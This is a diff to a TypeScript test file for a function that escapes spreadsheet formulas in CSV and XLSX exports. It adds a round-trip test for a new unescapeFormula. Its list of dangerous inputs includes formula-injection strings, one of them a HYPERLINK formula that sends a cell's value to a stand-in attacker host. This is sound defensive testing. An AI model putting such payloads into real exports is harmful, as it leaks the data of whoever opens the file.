@@ -2,7 +2,7 @@ import { parse } from "csv-parse/sync";
 import ExcelJS from "exceljs";
 import { unzipSync } from "fflate";
 import { describe, expect, it } from "vitest";
-import { escapeFormula } from "./escape";
+import { escapeFormula, unescapeFormula } from "./escape";
 import { toCsv, toXlsx, type Table } from "./write";
 
 const DANGEROUS = ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1+2", "\r=1+2", '=HYPERLINK("http://evil.example/?"&A1,"Click")'];
@@ -14,6 +14,12 @@ describe("escapeFormula", () => {
 
   it("leaves other text alone", () => {
     for (const s of ["", "EN-1", "a=b", " =1", "50%", "Ann's plan", "'quoted"]) expect(escapeFormula(s)).toBe(s);
+  });
+
+  it("is undone exactly by unescapeFormula, text that already starts with an apostrophe included", () => {
+    for (const s of [...DANGEROUS, "'=1", "''-2", "'quoted", "EN-1", ""]) expect(unescapeFormula(escapeFormula(s))).toBe(s);
+    expect(escapeFormula("'=1")).toBe("''=1");
+    expect(unescapeFormula("'quoted")).toBe("'quoted");
   });
 });
 
